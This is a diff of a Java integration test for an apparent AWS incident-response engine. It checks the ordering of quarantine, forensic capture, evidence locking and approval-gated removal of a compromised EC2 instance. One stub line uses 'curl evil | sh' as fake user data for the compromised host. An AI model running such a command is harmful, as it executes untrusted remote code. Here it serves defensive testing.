@@ -1,26 +1,38 @@
 package io.trailhound.respond.engine;
 
+import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
+import static com.github.tomakehurst.wiremock.client.WireMock.head;
+import static com.github.tomakehurst.wiremock.client.WireMock.put;
+import static com.github.tomakehurst.wiremock.client.WireMock.urlPathMatching;
 import static org.junit.jupiter.api.Assertions.assertArrayEquals;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
+import java.io.UncheckedIOException;
 import java.nio.charset.StandardCharsets;
+import java.time.Duration;
+import java.time.Instant;
 import java.util.Base64;
 import java.util.HashMap;
 import java.util.List;
 import java.util.Map;
+import java.util.Set;
 
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.RegisterExtension;
 
 import io.trailhound.avro.ActionStatus;
+import io.trailhound.avro.Alert;
 import io.trailhound.avro.ApprovalDecision;
 import io.trailhound.avro.Decision;
+import io.trailhound.avro.Entities;
 import io.trailhound.avro.ResponseAction;
 import io.trailhound.respond.ResponderConfig;
 import io.trailhound.respond.TestAlerts;
+import io.trailhound.respond.aws.StepExecutors;
 import io.trailhound.testkit.aws.AwsEndpointExtension;
+import io.trailhound.testkit.aws.AwsOperation;
 import io.trailhound.testkit.aws.AwsQueryService;
 import io.trailhound.testkit.aws.AwsRequest;
 import io.trailhound.testkit.aws.S3Endpoint;
@@ -43,13 +55,17 @@ class Ec2CompromiseResponseIT {
     private static final List<String> CHANGES = List.of("ModifyInstanceAttribute", "CreateTags", "CreateSecurityGroup",
         "ModifyNetworkInterfaceAttribute", "DisassociateIamInstanceProfile", "TerminateInstances");
 
+    private static final String DENY_ALL_PROFILE = "arn:aws:iam::111122223333:instance-profile/trailhound-deny-all";
+    private static final String TOPIC = "arn:aws:sns:us-east-1:111122223333:soc";
+    private static final String TARGET_GROUP = "arn:aws:elasticloadbalancing:us-east-1:111122223333:targetgroup/web/0123";
+
     private static int bucket;
     private String bucketName;
 
     @BeforeEach
     void stubEc2() {
         bucketName = "evidence-" + (++bucket);
-        S3.createBucket(bucketName);
+        createBucket(bucketName);
         stubInstance("");
         AWS.stubQuery(AwsQueryService.EC2, "DescribeInstanceAttribute", Map.of("Attribute", "userData"),
             "<instanceId>" + INSTANCE + "</instanceId><userData><value>" + base64("#!/bin/bash\ncurl evil | sh") + "</value></userData>");
@@ -82,6 +98,131 @@ class Ec2CompromiseResponseIT {
         AWS.stubQuery(AwsQueryService.EC2, "DisassociateIamInstanceProfile", "<iamInstanceProfileAssociation>"
             + "<associationId>iip-assoc-1</associationId><state>disassociating</state></iamInstanceProfileAssociation>");
         AWS.stubQuery(AwsQueryService.EC2, "TerminateInstances", "<instancesSet/>");
+        QueryStubs.AUTO_SCALING.stub(AWS.wireMock(), "DescribeAutoScalingInstances", "<AutoScalingInstances/>");
+        QueryStubs.ELB.stub(AWS.wireMock(), "DescribeTargetGroups", "<TargetGroups/>");
+    }
+
+    @Test
+    void shouldKeepTheGroupFromReplacingTheEvidenceAndRemoveFromServiceOnlyAfterApproval() {
+        stubGroupMembership();
+        stubForensics();
+        Map<String, String> config = Map.of(ResponderConfig.QUARANTINE_PROFILE_CONFIG, DENY_ALL_PROFILE,
+            ResponderConfig.FORENSIC_ACCOUNT_CONFIG, "999900001111", ResponderConfig.MEMORY_CAPTURE_DOCUMENT_CONFIG, "LiME-Capture",
+            ResponderConfig.NOTIFICATION_TOPIC_CONFIG, TOPIC, ResponderConfig.EVIDENCE_RETENTION_DAYS_CONFIG, "30");
+        Alert alert = TestAlerts.instance(INSTANCE).setEntities(Entities.newBuilder().setInstanceIds(List.of(INSTANCE))
+            .setRoleArns(List.of("arn:aws:iam::111122223333:role/web")).build())
+            .setFindingTypes(List.of("Backdoor:EC2/C&CActivity.B")).build();
+        try (LocalResponder local = new LocalResponder(AWS, null, config)) {
+            List<ResponseAction> records = local.responder.respond(alert);
+            List<String> calls = AWS.requests().stream().map(AwsRequest::action).toList();
+            assertInOrder(calls, "AmazonSSM.SendCommand", "CreateSnapshots", "SetInstanceProtection", "EnterStandby",
+                "ModifyInstanceAttribute", "ModifyNetworkInterfaceAttribute", "PutRolePolicy", "ReplaceIamInstanceProfileAssociation",
+                "ModifySnapshotAttribute", "Publish");
+            assertEquals("false", AWS.verifyCalled("EnterStandby").param("ShouldDecrementDesiredCapacity"));
+            assertEquals("web-asg", AWS.verifyCalled("SetInstanceProtection").param("AutoScalingGroupName"));
+            assertEquals("true", AWS.verifyCalled("SetInstanceProtection").param("ProtectedFromScaleIn"));
+            assertEquals(DENY_ALL_PROFILE, AWS.verifyCalled("ReplaceIamInstanceProfileAssociation").param("IamInstanceProfile.Arn"));
+            assertEquals("iip-assoc-1", AWS.verifyCalled("ReplaceIamInstanceProfileAssociation").param("AssociationId"));
+            assertTrue(AWS.requests("DisassociateIamInstanceProfile").isEmpty());
+            AwsRequest share = AWS.verifyCalled("ModifySnapshotAttribute");
+            assertEquals("snap-1", share.param("SnapshotId"));
+            assertEquals("999900001111", share.param("UserId.1"));
+            assertEquals("add", share.param("OperationType"));
+            assertTrue(AWS.verifyCalled("SendCommand").body().contains("\"DocumentName\":\"LiME-Capture\""));
+            assertTrue(AWS.requests("DetachInstances").isEmpty() && AWS.requests("DeregisterTargets").isEmpty(),
+                "no removal from service before approval");
+            assertEvidenceLocked();
+            AwsRequest first = AWS.verifyCalled("Publish", 1).get(0);
+            assertEquals(TOPIC, first.param("TopicArn"));
+            assertTrue(first.param("Subject").contains("2 awaiting approval"), first.param("Subject"));
+            assertTrue(first.param("Message").contains("\"awaitingApproval\":2"), first.param("Message"));
+
+            local.responder.respond(alert);
+            AWS.verifyCalled("Publish", 1);
+
+            for (String action : List.of("autoscaling:DetachInstances", "elasticloadbalancing:DeregisterTargets")) {
+                List<ResponseAction> decided = local.responder.decide(decision(find(records, action).getActionId(), Decision.APPROVED));
+                assertEquals(ActionStatus.EXECUTED, decided.get(1).getStatus(), decided.toString());
+            }
+            AwsRequest detach = AWS.verifyCalled("DetachInstances");
+            assertEquals(INSTANCE, detach.param("InstanceIds.member.1"));
+            assertEquals("false", detach.param("ShouldDecrementDesiredCapacity"));
+            AwsRequest deregister = AWS.verifyCalled("DeregisterTargets");
+            assertEquals(TARGET_GROUP, deregister.param("TargetGroupArn"));
+            assertEquals(INSTANCE + ":80", deregister.param("Targets.member.1.Id") + ":" + deregister.param("Targets.member.1.Port"));
+            List<AwsRequest> published = AWS.verifyCalled("Publish", 3);
+            assertTrue(published.get(2).param("Subject").contains("0 awaiting approval"), published.get(2).param("Subject"));
+            Set<String> allowed = StepExecutors.standard(new ResponderConfig(config).runbookSettings(), Map.of()).awsActions();
+            assertTrue(allowed.containsAll(LocalResponder.calledActions(AWS)), LocalResponder.calledActions(AWS).toString());
+        }
+    }
+
+    /** S3Mock's first answer can take longer than the test kit's 10 s on a loaded machine: try again before giving up. */
+    private static void createBucket(String name) {
+        for (int attempt = 1; ; attempt++) {
+            try {
+                S3.createBucket(name);
+                return;
+            } catch (UncheckedIOException e) {
+                if (attempt == 3) {
+                    throw e;
+                }
+            }
+        }
+    }
+
+    private static void assertEvidenceLocked() {
+        List<AwsRequest> puts = AWS.requests().stream().filter(r -> r.method().equals("PUT") && r.path().contains("/inc-1/")).toList();
+        assertEquals(5, puts.size(), puts.stream().map(AwsRequest::path).toList().toString());
+        for (AwsRequest put : puts) {
+            assertEquals("COMPLIANCE", put.header("x-amz-object-lock-mode"), put.path());
+            Instant until = Instant.parse(put.header("x-amz-object-lock-retain-until-date"));
+            assertTrue(until.isAfter(Instant.now().plus(Duration.ofDays(29))) && until.isBefore(Instant.now().plus(Duration.ofDays(31))));
+            assertEquals("trailhound%3Aincident=inc-1", put.header("x-amz-tagging"));
+        }
+    }
+
+    private static void assertInOrder(List<String> calls, String... expected) {
+        int at = -1;
+        for (String call : expected) {
+            int next = calls.subList(at + 1, calls.size()).indexOf(call);
+            assertTrue(next >= 0, call + " after position " + at + " in " + calls);
+            at += next + 1;
+        }
+    }
+
+    private static void stubGroupMembership() {
+        QueryStubs.AUTO_SCALING.stub(AWS.wireMock(), "DescribeAutoScalingInstances", "<AutoScalingInstances><member><InstanceId>"
+            + INSTANCE + "</InstanceId><AutoScalingGroupName>web-asg</AutoScalingGroupName><AvailabilityZone>us-east-1a"
+            + "</AvailabilityZone><LifecycleState>InService</LifecycleState><HealthStatus>HEALTHY</HealthStatus>"
+            + "<ProtectedFromScaleIn>false</ProtectedFromScaleIn></member></AutoScalingInstances>");
+        QueryStubs.AUTO_SCALING.stub(AWS.wireMock(), "SetInstanceProtection", "");
+        QueryStubs.AUTO_SCALING.stub(AWS.wireMock(), "EnterStandby", "<Activities/>");
+        QueryStubs.AUTO_SCALING.stub(AWS.wireMock(), "DetachInstances", "<Activities/>");
+        QueryStubs.ELB.stub(AWS.wireMock(), "DescribeTargetGroups", "<TargetGroups><member><TargetGroupArn>" + TARGET_GROUP
+            + "</TargetGroupArn><TargetType>instance</TargetType></member><member><TargetGroupArn>" + TARGET_GROUP + "-ip"
+            + "</TargetGroupArn><TargetType>ip</TargetType></member></TargetGroups>");
+        QueryStubs.ELB.stub(AWS.wireMock(), "DescribeTargetHealth", "<TargetHealthDescriptions><member><Target><Id>" + INSTANCE
+            + "</Id><Port>80</Port></Target><TargetHealth><State>healthy</State></TargetHealth></member></TargetHealthDescriptions>");
+        QueryStubs.ELB.stub(AWS.wireMock(), "DeregisterTargets", "");
+        QueryStubs.SNS.stub(AWS.wireMock(), "Publish", "<MessageId>m-1</MessageId>");
+    }
+
+    private static void stubForensics() {
+        AWS.stubJson("AmazonSSM.ListCommands", "{\"Commands\":[]}");
+        AWS.stubJson("AmazonSSM.SendCommand", "{\"Command\":{\"CommandId\":\"cmd-1\"}}");
+        AWS.stubQuery(AwsQueryService.EC2, "ReplaceIamInstanceProfileAssociation", "<iamInstanceProfileAssociation>"
+            + "<associationId>iip-assoc-2</associationId><state>associating</state></iamInstanceProfileAssociation>");
+        AwsOperation snapshots = AwsOperation.query(AwsQueryService.EC2, "DescribeSnapshots");
+        AWS.stubSequence(snapshots, snapshots.success("<snapshotSet/>"), snapshots.success("<snapshotSet><item><snapshotId>snap-1"
+            + "</snapshotId><volumeId>vol-1</volumeId><status>pending</status></item></snapshotSet>"));
+        AWS.stubQuery(AwsQueryService.EC2, "DescribeSnapshotAttribute", "<snapshotId>snap-1</snapshotId><createVolumePermission/>");
+        AWS.stubQuery(AwsQueryService.EC2, "ModifySnapshotAttribute", "<return>true</return>");
+        AWS.stubQueryError(AwsQueryService.IAM, "GetRolePolicy", 404, "NoSuchEntity", "none");
+        AWS.stubQuery(AwsQueryService.IAM, "PutRolePolicy", "");
+        AWS.wireMock().stubFor(head(urlPathMatching("/trailhound-evidence/.*")).willReturn(aResponse().withStatus(404)));
+        AWS.wireMock().stubFor(put(urlPathMatching("/trailhound-evidence/.*"))
+            .willReturn(aResponse().withStatus(200).withHeader("x-amz-request-id", "put-evidence")));
     }
 
     @Test
